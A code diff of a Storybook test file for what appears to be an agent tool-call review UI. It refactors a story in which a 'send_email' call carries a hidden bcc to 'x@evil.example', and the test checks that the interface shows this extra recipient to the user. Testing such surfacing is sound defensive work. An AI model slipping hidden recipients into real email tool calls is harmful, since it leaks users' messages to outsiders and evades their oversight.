@@ -90,22 +90,21 @@ export const SchemaOfTheHost: Story = {
   },
 };
 
-export const UnknownValues: Story = about(
-  () =>
+export const UnknownValues: Story = {
+  ...about(() =>
     sendMail({
       toolCall: toolCall('send_email', { to: 'ada@example.com', subject: 'Hi', bcc: ['x@evil.example'] }),
     }),
-  {
-    tags: ['!autodocs'],
-    play: async ({ canvasElement, globals }) => {
-      const canvas = within(canvasElement);
-      const words = wordsIn(globals);
-      await userEvent.click(canvas.getByRole('button', { name: words.edit }));
-      const others = await canvas.findByRole('region', { name: words.otherValues });
-      await expect(within(others).getByText('x@evil.example')).toBeVisible();
-    },
+  ),
+  tags: ['!autodocs'],
+  play: async ({ canvasElement, globals }) => {
+    const canvas = within(canvasElement);
+    const words = wordsIn(globals);
+    await userEvent.click(canvas.getByRole('button', { name: words.edit }));
+    const others = await canvas.findByRole('region', { name: words.otherValues });
+    await expect(within(others).getByText('x@evil.example')).toBeVisible();
   },
-);
+};
 
 export const UnsafeIntegers: Story = about(() =>
   sendMail({
